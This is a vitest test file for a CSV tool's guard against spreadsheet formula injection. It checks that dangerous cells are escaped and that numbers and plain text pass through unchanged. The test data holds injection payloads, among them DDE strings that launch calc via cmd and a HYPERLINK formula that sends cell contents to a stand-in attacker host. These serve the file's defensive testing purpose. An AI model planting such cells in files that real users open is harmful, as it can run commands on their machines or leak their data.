/** Cells that a spreadsheet would run: the list of OWASP's page on CSV injection, and what people have done with it. */
import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { asData } from '../../web/api/formulas.js';
import { forSpreadsheet } from '../../web/cli/for-spreadsheet.js';
import { csvLine } from '../../web/readers/csv.js';
import { inFolder, vitrine, written } from './support.js';

describe('a cell for a spreadsheet', () => {
  it.each([
    '=1+2',
    `=1+2";=1+2`,
    `=1+2'" ;,=1+2`,
    '+1+2',
    '-1+2',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+2',
    '\r=1+2',
    '\n=1+2',
    '＝1+2',
    '＋1+2',
    '－1+2',
    '＠SUM(1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid?x="&A1,"see")',
    ' =1+2',
    '\u200B=1+2',
    '\uFEFF=1+2',
    '"=1+2"',
    '-Anna',
    '+380 (44) 123-45-67 home',
    '-5-5',
    '-',
    '=',
  ])('is text where it begins like a formula: %j', (cell) => {
    expect(asData(cell).startsWith("'")).toBe(true);
    expect(asData(cell).replaceAll("'", '')).toBe(cell.replaceAll("'", ''));
  });

  it.each(['-5', '+5', '-1234.50', '-1 234,50', "-1'234.5", '-1.5e-7', '-5%', '-€5', '-5 EUR', '+12', ' -7', '0', '-0.1'])(
    'stays the number that it is: %j',
    (cell) => expect(asData(cell)).toBe(cell),
  );

  it.each(['Anna Weber', 'a=b', 'a-b', '', '2024-01-05', 'x@y.example', "O'Neil", '1 - 2', 'a; b', '; -5', 'a\nb'])(
    'stays the text that it is: %j',
    (cell) => expect(asData(cell)).toBe(cell),
  );

  it('begins no formula behind a separator of another country', () => {
    expect(asData('a;=1+2')).toBe("a;'=1+2");
    expect(asData('a\n@SUM(1)')).toBe("a\n'@SUM(1)");
    expect(csvLine(['a', 'b;=1+2'].map(asData))).toBe("a,b;'=1+2\n");
  });
});

describe('vitrine table', () => {
  const kDeals = 'Deal,Note,Amount\r\nA,=1+2,-5\r\nB,"@SUM(1), ""x""\r\n=2",7\r\nC,ok,"-1,5"\r\n';

  it('writes cells as they are read, and for a spreadsheet as data', () =>
    inFolder(async (folder) => {
      const path = await written(folder, 'deals.csv', kDeals);
      const output = `${folder}/deals.csv_converted.csv`;
      expect((await vitrine('table', path, '--out-dir', folder)).code).toBe(0);
      expect(await readFile(output, 'utf8')).toBe(kDeals);
      expect((await vitrine('table', path, '--out-dir', folder, '--for-spreadsheet')).code).toBe(0);
      expect(await readFile(output, 'utf8')).toBe('Deal,Note,Amount\r\nA,\'=1+2,-5\r\nB,"\'@SUM(1), ""x""\r\n\'=2",7\r\nC,ok,"-1,5"\r\n');
    }));

  it('does so wherever the text is cut into pieces', async () => {
    const bytes = new TextEncoder().encode(`${kDeals}＝1,"",ї`);
    const through = async (...pieces: Uint8Array[]): Promise<string> => {
      let all = '';
      for await (const piece of forSpreadsheet(
        (async function* () {
          yield* pieces;
        })(),
      ))
        all += piece;
      return all;
    };
    const whole = await through(bytes);
    expect(whole.endsWith('\'＝1,"",ї')).toBe(true);
    for (let at = 1; at < bytes.length; at++) expect(await through(bytes.subarray(0, at), bytes.subarray(at)), String(at)).toBe(whole);
  });
});
